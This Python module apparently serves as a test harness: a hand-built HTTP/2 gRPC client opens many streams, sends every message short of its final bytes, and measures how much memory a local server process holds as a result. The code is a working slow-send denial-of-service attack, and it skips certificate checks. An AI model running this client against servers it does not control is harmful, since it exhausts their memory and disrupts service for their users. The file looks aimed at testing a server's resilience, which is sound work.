"""A gRPC client that never finishes its messages: raw HTTP/2 over TLS, without authentication.

Each stream announces a message and sends all but its end, as far as the server's flow control
allows. Only the necessary parts of HTTP/2 (RFC 9113) are implemented.
"""

import contextlib
import socket
import ssl
import struct
import time
from dataclasses import dataclass, field
from pathlib import Path
from typing import Final

from patience import PATIENCE_SECONDS

DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0, 1, 3, 4, 6, 7, 8
ACK, END_HEADERS = 1, 4

_PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_INITIAL_WINDOW: Final = 65535
_FRAME_BYTES: Final = 16384
_MISSING_BYTES: Final = 8


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return (
        struct.pack(">I", len(payload))[1:]
        + bytes([kind, flags])
        + struct.pack(">I", stream)
        + payload
    )


def _header(name: bytes, value: bytes) -> bytes:
    """Encode a field as HPACK's literal without indexing (RFC 7541 6.2.2)."""
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


@dataclass
class _Stream:
    window: int
    left: int


@dataclass
class HalfSender:
    """A connection with streams that never end; made, it is either accepted or has ended."""

    address: str
    method: str
    message_bytes: int
    tls: bool = True
    accepted: bool = False
    """Whether the server has sent its settings: a connection above its bound gets none."""
    ended: bool = False
    streams: dict[int, _Stream] = field(default_factory=dict)
    sent_bytes: int = 0

    def __post_init__(self) -> None:
        host, _, port = self.address.rpartition(":")
        plain = socket.create_connection((host, int(port)), timeout=10)
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        context.set_alpn_protocols(["h2"])
        self._window, self._initial, self._received = _INITIAL_WINDOW, _INITIAL_WINDOW, b""
        try:
            self._socket: socket.socket = (
                context.wrap_socket(plain, server_hostname="x") if self.tls else plain
            )
            self._socket.settimeout(0.02)
            self._write(_PREFACE + _frame(SETTINGS, 0, 0, b""))
            deadline = time.monotonic() + PATIENCE_SECONDS
            while not (self.accepted or self.ended):
                if time.monotonic() > deadline:
                    raise TimeoutError
                self.receive()
        except OSError:
            plain.close()
            self.ended = True

    def close(self) -> None:
        """Close the connection."""
        if hasattr(self, "_socket"):
            self._socket.close()

    def open(self, count: int) -> None:
        """Begin `count` messages."""
        path = _header(b":path", self.method.encode())
        block = _header(b":method", b"POST") + _header(b":scheme", b"https") + path
        block += _header(b":authority", b"x") + _header(b"te", b"trailers")
        block += _header(b"content-type", b"application/grpc")
        for number in range(count):
            stream = 2 * number + 1
            self.streams[stream] = _Stream(self._initial, self.message_bytes - _MISSING_BYTES + 5)
            self._write(_frame(HEADERS, END_HEADERS, stream, block))
            self._data(stream, struct.pack(">BI", 0, self.message_bytes))

    def feed(self) -> int:
        """Send what the windows allow now; return the number of bytes."""
        before = self.sent_bytes
        for number in [*self.streams]:
            while (stream := self.streams.get(number)) is not None and not self.ended:
                size = min(stream.window, self._window, stream.left, _FRAME_BYTES)
                if size <= 0:
                    break
                self._data(number, bytes(size))
        return self.sent_bytes - before

    def receive(self) -> None:
        """Process what the server has sent."""
        with contextlib.suppress(TimeoutError, ssl.SSLWantReadError):
            while not self.ended:
                try:
                    received = self._socket.recv(1 << 16)
                except (ConnectionError, ssl.SSLError):
                    received = b""
                self.ended |= not received
                self._received += received
                self._frames()

    def _frames(self) -> None:
        while len(self._received) >= 9:
            size = int.from_bytes(self._received[:3], "big")
            if len(self._received) < 9 + size:
                return
            kind, flags = self._received[3], self._received[4]
            stream = int.from_bytes(self._received[5:9], "big")
            payload = self._received[9 : 9 + size]
            self._received = self._received[9 + size :]
            self._frame(kind, flags, stream, payload)

    def _frame(self, kind: int, flags: int, number: int, payload: bytes) -> None:
        if kind == SETTINGS and not flags & ACK:
            self.accepted = True
            for at in range(0, len(payload), 6):
                name, value = struct.unpack(">HI", payload[at : at + 6])
                if name == 4:
                    for stream in self.streams.values():
                        stream.window += value - self._initial
                    self._initial = value
            self._write(_frame(SETTINGS, ACK, 0, b""))
        elif kind == PING and not flags & ACK:
            self._write(_frame(PING, ACK, 0, payload))
        elif kind == WINDOW_UPDATE:
            more = int.from_bytes(payload, "big")
            if number == 0:
                self._window += more
            elif number in self.streams:
                self.streams[number].window += more
        elif kind == RST_STREAM or (kind == HEADERS and flags & 1):
            self.streams.pop(number, None)

    def _data(self, number: int, payload: bytes) -> None:
        self._write(_frame(DATA, 0, number, payload))
        self.streams[number].window -= len(payload)
        self.streams[number].left -= len(payload)
        self._window -= len(payload)
        self.sent_bytes += len(payload)

    def _write(self, content: bytes) -> None:
        self._socket.settimeout(5)
        try:
            self._socket.sendall(content)
        except OSError:
            self.ended = True
        self._socket.settimeout(0.02)


@dataclass
class Outcome:
    """Effect of half-sent messages on a server."""

    before_bytes: int
    peak_bytes: int
    after_bytes: int
    sent_bytes: int
    connections: int


def resident_bytes(pid: int) -> int:
    """Return the resident memory of a process."""
    status = Path(f"/proc/{pid}/status").read_text()
    return 1024 * int(status.split("VmRSS:")[1].split()[0])


def attack(
    pid: int,
    address: str,
    method: str,
    *,
    connections: int,
    streams: int,
    message_bytes: int,
    seconds: float,
    idle_seconds: float = 3,
) -> Outcome:
    """Hold half-sent messages until the server accepts none for `idle_seconds`, or time is up."""
    before = resident_bytes(pid)
    senders = [HalfSender(address, method, message_bytes) for _ in range(connections)]
    for sender in senders:
        if not sender.ended:
            sender.open(streams)
    peak, end, idle_since = before, time.monotonic() + seconds, time.monotonic()
    while time.monotonic() < min(end, idle_since + idle_seconds):
        sent = 0
        for sender in senders:
            if not sender.ended:
                sender.receive()
                sent += sender.feed()
        peak = max(peak, resident_bytes(pid))
        idle_since = time.monotonic() if sent else idle_since
    alive = sum(not sender.ended for sender in senders)
    for sender in senders:
        sender.close()
    total = sum(sender.sent_bytes for sender in senders)
    return Outcome(before, peak, resident_bytes(pid), total, alive)
